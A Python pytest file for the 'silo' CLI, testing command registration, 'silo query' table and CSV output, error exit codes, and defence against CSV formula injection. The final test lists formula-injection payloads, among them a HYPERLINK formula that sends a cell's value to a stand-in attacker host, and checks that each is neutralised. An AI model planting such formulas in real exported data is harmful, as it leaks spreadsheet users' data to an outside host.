"""The `silo` command: sub-commands registered, clear exit codes, `silo query` on a snapshot."""

import csv
import io

import duckdb
import pytest

from pipelines.cli import COMMANDS, build_parser, main


@pytest.fixture
def workspace(tmp_path):
    (tmp_path / "silo.yml").write_text("workspace: cli\nstart_date: 2026-01-05\n")
    (tmp_path / "warehouse").mkdir()
    with duckdb.connect(str(tmp_path / "warehouse" / "silo_snapshot.duckdb")) as con:
        con.execute("create table fct_x as select * from (values ('a', 1), ('b', 2)) t(k, n)")
    return tmp_path


def test_every_sub_command_is_registered():
    help_text = build_parser().format_help()
    for name in COMMANDS:
        assert name in help_text


def test_query_prints_a_table_and_csv(workspace, capsys):
    assert main(["query", "-w", str(workspace), "select k, n from fct_x order by n"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split() == ["k", "n"] and out[2].split() == ["a", "1"] and out[-1] == "(2 rows)"
    assert main(["query", "-w", str(workspace), "--csv", "select k from fct_x order by k"]) == 0
    assert capsys.readouterr().out.splitlines() == ["k", "a", "b"]


def test_query_lists_tables_by_default_and_reports_sql_errors(workspace, capsys):
    assert main(["query", "-w", str(workspace)]) == 0
    assert "fct_x" in capsys.readouterr().out
    assert main(["query", "-w", str(workspace), "select nope from fct_x"]) == 2
    assert "nope" in capsys.readouterr().err


def test_a_bad_workspace_is_a_configuration_error(tmp_path, capsys):
    assert main(["query", "-w", str(tmp_path)]) == 2
    assert "silo.yml" in capsys.readouterr().err


def test_csv_export_neutralises_formula_cells(workspace, capsys):
    """GIVEN titles a spreadsheet would run as formulas WHEN exported with --csv THEN each
    starts with a single quote (OWASP), and numbers stay numbers."""
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ]
    with duckdb.connect(str(workspace / "warehouse" / "silo_snapshot.duckdb")) as con:
        con.execute("create table fct_t (n integer, title varchar)")
        for n, title in enumerate(payloads):
            con.execute("insert into fct_t values (?, ?)", [-n, title])
        con.execute("insert into fct_t values (99, 'plain = text')")
    sql = "select * from fct_t order by n desc"
    assert main(["query", "-w", str(workspace), "--csv", sql]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["n", "title"]
    assert rows[1] == ["99", "plain = text"]
    for row, payload in zip(rows[2:], payloads, strict=True):
        assert row[1] == "'" + payload
    assert [r[0] for r in rows[2:]] == ["0", "-1", "-2", "-3", "-4", "-5"]
